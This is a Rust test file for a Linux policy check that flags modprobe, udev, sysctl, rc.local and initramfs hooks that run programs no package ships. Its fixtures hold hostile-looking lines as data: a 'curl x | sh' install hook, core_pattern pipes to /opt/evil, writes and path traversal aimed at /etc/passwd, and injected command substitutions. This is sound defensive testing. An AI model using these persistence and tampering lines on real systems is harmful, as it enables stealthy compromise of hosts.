//! LNX-KERNEL-012.

use super::testing::{RELEASE, added, at, with_hooks};
use crate::evidence::linux::testing::{elf, ko_of};
use crate::policy::Status;
use crate::policy::checks::linux::testing::{check, status};

#[test]
fn hooks_of_modprobe_the_kernel_and_udev_run_only_programs_of_packages() {
    const ID: &str = "LNX-KERNEL-012";
    assert_eq!(status(ID, with_hooks()), Status::Pass);
    let conf = "/etc/modprobe.d/z.conf";
    let evil = with_hooks().file("/opt/evil", 0o755, "x");
    let hook = "# x\ninstall ext4 /usr/sbin/modprobe --ignore-install ext4; /opt/evil\n";
    let result = check(ID, evil.file(conf, 0o644, hook));
    assert_eq!(
        (result.status, result.evidence[0].at.line),
        (Status::Fail, Some(2))
    );
    assert_eq!(
        result.evidence[0].found.as_ref().map(|t| t.en.as_str()),
        Some("/opt/evil")
    );
    let shell = "install ext4 /bin/sh -c 'curl x | sh'\n";
    assert_eq!(added(ID, conf, shell), at(Status::Fail, conf, 1));
    // A module that is kept out harms nobody, unless it protects the system.
    for (text, status) in [
        ("install dccp /usr/bin/false\n", Status::Pass),
        ("install nf_tables /usr/bin/false\n", Status::Warn),
        ("install dccp /usr/sbin/modprobe -i x\n", Status::Warn),
    ] {
        assert_eq!(added(ID, conf, text).0, status, "{text}");
    }
    assert_eq!(
        added(ID, conf, "blacklist nf_tables\n"),
        at(Status::Warn, conf, 1)
    );
    let list = "/etc/modules-load.d/z.conf";
    assert_eq!(added(ID, list, "\nacpiphp\n"), at(Status::Warn, list, 2));
    let sysctl = "/etc/sysctl.d/z.conf";
    let evil = || with_hooks().file("/opt/evil", 0o755, "x");
    for text in [
        "kernel.modprobe=/opt/evil\n",
        "kernel.core_pattern = |/opt/evil %p\n",
    ] {
        assert_eq!(
            status(ID, evil().file(sysctl, 0o644, text)),
            Status::Fail,
            "{text}"
        );
    }
    let rule = "ACTION==\"add\", RUN+=\"/opt/evil %k\"\n";
    let rules = "/etc/udev/rules.d/z.rules";
    assert_eq!(status(ID, evil().file(rules, 0o644, rule)), Status::Fail);
    // udev(7), RUN{builtin}; depmod.d(5).
    let load = "KERNEL==\"vda\", RUN{builtin}+=\"kmod load x\"\n";
    assert_eq!(added(ID, rules, load), at(Status::Unknown, rules, 1));
    let order = "/etc/depmod.d/z.conf";
    let search = "# x\nsearch extra built-in\n";
    assert_eq!(added(ID, order, search), at(Status::Unknown, order, 2));
    let hook = "/etc/initramfs-tools/hooks/z";
    assert_eq!(added(ID, hook, "#!/bin/sh\n").0, Status::Unknown);
    let local = "#!/bin/sh\ninsmod /opt/x.ko\n";
    let (got, path, _) = added(ID, "/etc/rc.local", local);
    assert_eq!(
        (got, path.as_deref()),
        (Status::Fail, Some("/etc/rc.local"))
    );
    assert_eq!(
        status(ID, with_hooks().missing("/etc/modprobe.d")),
        Status::Unknown
    );
}

#[test]
fn a_module_that_nobody_vouches_for_may_not_load_by_itself() {
    let module = "/lib/modules/6.1.0-9-amd64/updates/my-mod.ko";
    let build = with_hooks()
        .file(module, 0o644, ko_of(RELEASE, "my_mod"))
        .file("/etc/modules", 0o644, "my_mod\n");
    assert_eq!(status("LNX-KERNEL-012", build), Status::Fail);
}

/// interfaces(5): the programs of if-up.d run when an interface comes up. A script that a start line
/// leads to is read for what it loads, as the kernel runs it.
#[test]
fn scripts_that_run_at_boot_may_not_load_a_module_by_its_file() {
    let hook = "/etc/network/if-up.d/zz";
    let script = "#!/bin/sh\n/sbin/insmod /usr/lib/netns/helper.bin\n";
    let build = with_hooks().file(hook, 0o755, script);
    let got = check("LNX-KERNEL-012", build);
    assert_eq!(got.status, Status::Fail, "{got:?}");
    assert_eq!(got.evidence[0].at.path.as_deref(), Some(hook));
    assert_eq!(got.evidence[0].at.line, Some(2));
    // Programs that start another, and those that are it by an applet; `command -v` only looks it up.
    for (command, status) in [
        ("nice -n 5 insmod /opt/x.ko", Status::Fail),
        ("busybox insmod /opt/x.ko", Status::Fail),
        ("toybox insmod /opt/x.ko", Status::Fail),
        ("exec env A=1 insmod /opt/x.ko", Status::Fail),
        ("command -v insmod > /dev/null", Status::Pass),
    ] {
        let build = with_hooks().file(hook, 0o755, format!("#!/bin/sh\n{command}\n"));
        assert_eq!(check("LNX-KERNEL-012", build).status, status, "{command}");
    }
}

#[test]
fn settings_of_kernel_install_run_nothing_and_its_plugins_do() {
    const ID: &str = "LNX-KERNEL-012";
    for (path, text) in [
        ("/etc/kernel/cmdline", "root=UUID=x ro quiet\n"),
        ("/etc/kernel/entry-token", "debian\n"),
        ("/etc/kernel/install.conf", "layout=bls\n"),
        ("/etc/kernel/tries", "3\n"),
    ] {
        assert_eq!(added(ID, path, text).0, Status::Pass, "{path}");
    }
    for path in [
        "/etc/kernel/install.d/99-x.install",
        "/etc/kernel/postinst.d/cmdline",
        "/etc/kernel/uki.conf",
    ] {
        assert_eq!(added(ID, path, "#!/bin/sh\n").0, Status::Unknown, "{path}");
    }
}

/// A module of a kernel that does not boot is not judged, so nothing may load it by its file.
#[test]
fn a_module_of_another_kernel_may_not_be_loaded_by_its_file() {
    let load = |release: &str| {
        let line =
            format!("#!/bin/sh\ninsmod /lib/modules/{release}/kernel/drivers/net/tun-x.ko\n");
        let build = super::testing::with_module().file("/etc/rc.local", 0o755, line);
        status("LNX-KERNEL-012", build)
    };
    assert_eq!(load(RELEASE), Status::Warn);
    assert_eq!(load("$(uname -r)"), Status::Warn);
    assert_eq!(load("6.1.0-8-amd64"), Status::Fail);
    assert_eq!(load("$(uname -r)/../6.1.0-8-amd64"), Status::Fail);
}

/// A module that a key of its kernel signed, or that is built in, is judged by itself.
#[test]
fn a_list_of_known_modules_needs_no_package() {
    let builtin = "/usr/lib/modules/6.1.0-9-amd64/modules.builtin";
    let load = |list: &str| {
        let build = super::testing::with_module()
            .file(builtin, 0o644, "kernel/net/ipv4/tcp-cubic.ko\n")
            .file("/etc/modules-load.d/z.conf", 0o644, list);
        status("LNX-KERNEL-012", build)
    };
    assert_eq!(load("# a\ntun-x\ntcp_cubic\n"), Status::Pass);
    assert_eq!(load("helper\n"), Status::Warn);
}

/// What console-setup 1.221 of Debian 12 writes and its own rule runs.
const FONT: &str = "#!/bin/sh

setfont '/usr/share/consolefonts/Uni2-Fixed16.psf.gz' 

if ls /dev/fb* >/dev/null 2>/dev/null; then
    for i in /dev/vcs[0-9]*; do
        { :
            setfont '/usr/share/consolefonts/Uni2-Fixed16.psf.gz' 
        } < /dev/tty${i#/dev/vcs} > /dev/tty${i#/dev/vcs}
    done
fi

mkdir -p /run/console-setup
> /run/console-setup/font-loaded
for i in /dev/vcs[0-9]*; do
    { :
printf '\\033%%G' 
    } < /dev/tty${i#/dev/vcs} > /dev/tty${i#/dev/vcs}
done
";
const TERMINAL: &str = "#!/bin/sh

{ :
printf '\\033%%G' 
} < /dev/tty${1#vcs} > /dev/tty${1#vcs}
";
const KEYBOARD: &str = "#!/bin/sh

if [ -f /run/console-setup/keymap_loaded ]; then
    rm /run/console-setup/keymap_loaded
    exit 0
fi
kbd_mode '-u' 
loadkeys '/etc/console-setup/cached_UTF-8_del.kmap.gz' > '/dev/null' 
";

/// The rule of console-setup and what it runs; `script` stands in the place of the first.
fn console(script: &str, rules: &str) -> Status {
    let rule = b"ACTION==\"add\", SUBSYSTEM==\"vtconsole\", KERNEL==\"vtcon*\", RUN+=\"/etc/console-setup/cached_setup_font.sh\"\nACTION==\"add\", SUBSYSTEM==\"vc\", RUN+=\"/etc/console-setup/cached_setup_terminal.sh %k\"\n";
    let programs = ["kbd_mode", "loadkeys", "ls", "mkdir", "rm", "setfont"];
    let mut build = with_hooks();
    for name in programs {
        let path = format!("/usr/bin/{name}");
        build = build.owned(name, &[(&path, 0o755, &elf(100))]);
    }
    let build = match rules.starts_with("/etc/") {
        true => build.file(rules, 0o644, &rule[..]),
        false => build.owned("console-setup-linux", &[(rules, 0o644, rule)]),
    };
    let build = build
        .file("/etc/console-setup/cached_setup_font.sh", 0o755, script)
        .file(
            "/etc/console-setup/cached_setup_terminal.sh",
            0o755,
            TERMINAL,
        );
    status("LNX-KERNEL-012", build)
}

#[test]
fn a_generated_script_is_explained_by_all_that_it_does() {
    let rules = "/usr/lib/udev/rules.d/90-console-setup.rules";
    for script in [FONT, KEYBOARD, TERMINAL] {
        assert_eq!(console(script, rules), Status::Pass, "{script}");
    }
    // The same names prove nothing: whatever else such a script does is not explained.
    for more in [
        "/opt/evil",
        "insmod /run/console-setup/x.ko",
        "setfont -O /etc/passwd",
        "setfont /opt/font",
        "loadkeys /tmp/x",
        "printf x > /etc/passwd",
        "printf x > /dev/tty/../../etc/passwd",
        "rm /run/console-setup/../../etc/passwd",
        "mkdir -p /etc/x",
        "/opt/setfont",
        "PATH=/opt setfont /etc/console-setup/x",
        "setfont() { /opt/evil; }",
        ". /opt/evil",
        "printf `/opt/evil`",
        "printf \"$(/opt/evil)\"",
    ] {
        let script = format!("{FONT}{more}\n");
        assert_eq!(console(&script, rules), Status::Fail, "{more}");
    }
    // A rule of somebody else's may give the script what it likes.
    assert_eq!(console(FONT, "/etc/udev/rules.d/z.rules"), Status::Fail);
}

/// udev(7): what a rule runs is judged by what it is, whoever wrote the rule.
#[test]
fn rules_of_the_owner_may_tune_devices_and_no_more() {
    let rule = |run: &str| {
        let text = format!("ACTION==\"add\", SUBSYSTEM==\"block\", RUN+=\"{run}\"\n");
        let build = with_hooks()
            .owned("dash", &[("/usr/bin/sh", 0o755, &elf(100))])
            .owned("util-linux", &[("/usr/sbin/blockdev", 0o755, &elf(100))])
            .file("/usr/lib/udev/evil", 0o755, elf(90))
            .file("/etc/udev/rules.d/z.rules", 0o644, text);
        status("LNX-KERNEL-012", build)
    };
    for run in [
        "/usr/sbin/blockdev --setra 4096 /dev/%k",
        "/usr/bin/sh -c 'echo 256 > /sys/block/%k/queue/nr_requests'",
    ] {
        assert_eq!(rule(run), Status::Pass, "{run}");
    }
    for run in [
        "/usr/bin/sh -c 'echo x > /etc/passwd'",
        "/usr/bin/sh -c 'echo x > /sys/block/../../etc/passwd'",
        "/usr/bin/sh -c 'echo %E{X} > /sys/block/%k/queue/nr_requests'",
        "/usr/bin/sh -c 'echo 1, > /sys/block/%k/queue/x; sh /x'",
        "/usr/bin/sh /x",
        "nowhere",
    ] {
        assert_eq!(rule(run), Status::Unknown, "{run}");
    }
    assert_eq!(rule("evil %k"), Status::Fail);
}

/// Rules of nfs-common and multipath-tools of Debian 12: no shell reads them.
#[test]
fn a_rule_runs_one_program_with_its_words() {
    let rule = b"RUN+=\"/sbin/sysctl -q --pattern ^fs.nfs.(a|idmap_cache_timeout) --system\"\nRUN+=\"/usr/bin/systemd-run --unit=cancel-$kernel --description 'cancel waiting of $kernel' --no-block --timer-property DefaultDependencies=no --on-active 30 /usr/bin/sh -c :\"\n";
    let build = with_hooks()
        .owned("procps", &[("/sbin/sysctl", 0o755, &elf(100))])
        .owned("systemd", &[("/usr/bin/systemd-run", 0o755, &elf(100))])
        .owned("dash", &[("/usr/bin/sh", 0o755, &elf(100))])
        .owned(
            "rules",
            &[("/usr/lib/udev/rules.d/60-x.rules", 0o644, rule)],
        );
    assert_eq!(status("LNX-KERNEL-012", build), Status::Pass);
}

/// initramfs-tools(7): files of conf.d are sourced; one that only sets is no hook.
#[test]
fn a_setting_of_the_initramfs_needs_no_package() {
    let file = "/etc/initramfs-tools/conf.d/resume";
    assert_eq!(
        added("LNX-KERNEL-012", file, "RESUME=none\n").0,
        Status::Pass
    );
    assert_eq!(
        added("LNX-KERNEL-012", file, "ROOT=/dev/sdb\n").0,
        Status::Unknown
    );
}

/// modprobe(8), udev(7), sysctl.d(5), tmpfiles.d(5), sysctl(8): the ways round the files that modprobe
/// and the kernel read by themselves.
#[test]
fn what_leads_modprobe_or_the_kernel_elsewhere_is_told() {
    const ID: &str = "LNX-KERNEL-012";
    let unit = "/etc/systemd/system/x.service.d/x.conf";
    let options = "[Service]\nEnvironment=\"MODPROBE_OPTIONS=-C /srv/c\"\n";
    assert_eq!(added(ID, unit, options), at(Status::Unknown, unit, 2));
    let hook = "/etc/network/if-up.d/zz";
    let run = |line: &str| added(ID, hook, &format!("#!/bin/sh\n{line}\n"));
    for line in [
        "modprobe -d /srv helper",
        "echo /srv/x > /proc/sys/kernel/modprobe",
        "sysctl -w kernel.core_pattern='|/srv/x'",
    ] {
        assert_eq!(run(line), at(Status::Unknown, hook, 2), "{line}");
    }
    assert_eq!(run("sysctl -w vm.swappiness=1").0, Status::Pass);
    let rules = "/etc/udev/rules.d/z.rules";
    for rule in [
        "SUBSYSTEM==\"net\" RUN+=\"zz\"\n",
        "TAG+=\"systemd\", ENV{SYSTEMD_WANTS}+=\"x.service\"\n",
    ] {
        assert_eq!(
            added(ID, rules, rule),
            at(Status::Unknown, rules, 1),
            "{rule}"
        );
    }
    assert_eq!(
        added(ID, rules, "KERNEL==\"x\", MODE=\"0666\"\n").0,
        Status::Pass
    );
    let evil = || with_hooks().file("/opt/evil", 0o755, "x");
    for (path, text) in [
        ("/etc/sysctl.d/z.conf", "kernel/core_patter*=|/opt/evil\n"),
        (
            "/etc/credstore/sysctl.extra",
            "kernel.core_pattern=|/opt/evil\n",
        ),
        (
            "/etc/tmpfiles.d/z.conf",
            "w /proc/sys/kernel/core_pattern - - - - |/opt/evil\n",
        ),
    ] {
        let got = check(ID, evil().file(path, 0o644, text));
        let place = got.evidence.first().and_then(|e| e.at.path.as_deref());
        assert_eq!((got.status, place), (Status::Fail, Some(path)), "{got:?}");
    }
}

/// What depmod writes names modules too, and is no package's file (modprobe(8), depmod(8)).
#[test]
fn soft_dependencies_of_the_modules_folder_count_for_modules_of_nobody() {
    let folder = "/lib/modules/6.1.0-9-amd64";
    let list = format!("{folder}/modules.softdep");
    let with = |text: &str| {
        with_hooks()
            .file(
                &format!("{folder}/updates/my-mod.ko"),
                0o644,
                ko_of(RELEASE, "my_mod"),
            )
            .file(&list, 0o644, text)
    };
    let usual = "# made by depmod\nsoftdep ext4 pre: crc32c\n";
    assert_eq!(status("LNX-KERNEL-012", with(usual)), Status::Pass);
    let got = check("LNX-KERNEL-012", with("softdep ext4 pre: crc32c my-mod\n"));
    assert_eq!(got.status, Status::Fail);
    assert_eq!(got.evidence[0].at.path.as_deref(), Some(list.as_str()));
}

#[test]
fn what_loads_modules_must_be_as_a_package_brought_it() {
    let changed = with_hooks()
        .file("/usr/sbin/modprobe", 0o755, "#!/bin/sh\n/srv/x\n")
        .link("/sbin", "usr/sbin");
    let got = check("LNX-KERNEL-012", changed);
    assert_eq!(got.status, Status::Unknown);
    assert_eq!(
        got.evidence[0].at.path.as_deref(),
        Some("/usr/sbin/modprobe")
    );
}
